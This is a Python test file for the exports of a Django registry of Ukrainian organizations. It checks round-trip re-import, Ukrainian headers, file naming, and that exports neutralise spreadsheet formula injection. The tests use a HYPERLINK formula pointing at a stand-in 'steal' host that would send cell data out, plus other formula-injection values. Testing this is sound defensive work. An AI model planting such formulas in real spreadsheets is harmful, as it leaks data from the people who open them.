import datetime
import io
import json

import pytest
from openpyxl import load_workbook

from registry import exports, selectors
from registry.kinds import OrganizationKind
from registry.models import Organization

from .factories import (
    FieldOfActivityFactory,
    InteractionFactory,
    OrganizationFactory,
    PartyOrganizationFactory,
)
from .helpers import run_import

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/steal?d="&A1,"Натисніть")'


def cells(content: bytes):
    """Every cell of every sheet of an XLSX file."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_export_reimports_to_the_same_registry(file_format):
    organization = OrganizationFactory(
        name="ГО «Експорт»", head="Іваненко І. І.", seats=None, registration_date=datetime.date(2001, 1, 31)
    )
    organization.fields_of_activity.set([FieldOfActivityFactory(name="Екологія")])

    content = exports.export_organizations(file_format=file_format)
    Organization.objects.filter(pk=organization.pk).update(name="змінено", head="")
    report = run_import(content, file_format)

    assert (report.new, report.updated, report.has_errors) == (0, 1, False)
    organization.refresh_from_db()
    assert (organization.name, organization.head) == ("ГО «Експорт»", "Іваненко І. І.")
    assert organization.registration_date == datetime.date(2001, 1, 31)
    assert list(organization.fields_of_activity.values_list("name", flat=True)) == ["Екологія"]


def test_csv_export_has_the_ukrainian_headers_and_dates_as_day_month_year():
    OrganizationFactory(registration_date=datetime.date(2001, 1, 31))
    text = exports.export_organizations(file_format="csv").decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    assert header.startswith(
        "Назва,Скорочена назва,Код ЄДРПОУ,Тип,Організаційно-правова форма,Дата реєстрації,Статус"
    )
    assert "31.01.2001" in row and "зареєстровано" in row


def test_xlsx_export_holds_no_formula_and_writes_text_as_text():
    OrganizationFactory(name=FORMULA, head="@SUM(1)").fields_of_activity.set(
        [FieldOfActivityFactory(name="=1+1")]
    )

    exported = cells(exports.export_organizations(file_format="xlsx"))

    assert not [cell for cell in exported if cell.data_type == "f"]
    assert {cell.data_type for cell in exported if cell.value is not None} == {"s"}
    assert {"'" + FORMULA, "'@SUM(1)", "'=1+1"} <= {cell.value for cell in exported}


def test_csv_and_json_exports_carry_the_neutralised_name():
    OrganizationFactory(name=FORMULA)
    csv_text = exports.export_organizations(file_format="csv").decode("utf-8-sig")
    records = json.loads(exports.export_organizations(file_format="json"))
    assert csv_text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert records[0]["Назва"] == "'" + FORMULA


def test_xlsx_sheet_is_named_after_the_list():
    OrganizationFactory()
    content = exports.export_organizations(file_format="xlsx", kind=OrganizationKind.NGO)
    assert load_workbook(io.BytesIO(content)).sheetnames == ["Громадські об'єднання"]


def test_export_file_names_are_transliterated_and_dated():
    day = datetime.date(2026, 12, 1)
    assert exports.export_file_name(kind=OrganizationKind.NGO, file_format="xlsx", day=day) == (
        "hromadski-obiednannia-2026-12-01.xlsx"
    )
    assert exports.export_file_name(kind=OrganizationKind.PARTY, file_format="csv", day=day) == (
        "partiini-orhanizatsii-2026-12-01.csv"
    )
    assert exports.analytics_file_name(month=day, file_format="xlsx") == "analityka-reiestriv-2026-12.xlsx"


def test_analytics_xlsx_holds_no_formula():
    PartyOrganizationFactory(name=FORMULA, party="+Партія", faction="-Фракція", seats=3)
    InteractionFactory(date=datetime.date(2026, 3, 2), topic="=1+1", outcome="@A1")
    analytics = selectors.registry_analytics(month=datetime.date(2026, 3, 1))

    exported = cells(exports.export_analytics(analytics=analytics, file_format="xlsx"))

    assert not [cell for cell in exported if cell.data_type == "f"]
    values = {cell.value for cell in exported}
    assert {"'" + FORMULA, "'+Партія", "'-Фракція", "'=1+1", "'@A1", 3} <= values


def test_analytics_csv_carries_the_neutralised_values():
    InteractionFactory(date=datetime.date(2026, 3, 2), topic=FORMULA)
    analytics = selectors.registry_analytics(month=datetime.date(2026, 3, 1))
    text = exports.export_analytics(analytics=analytics, file_format="csv").decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text
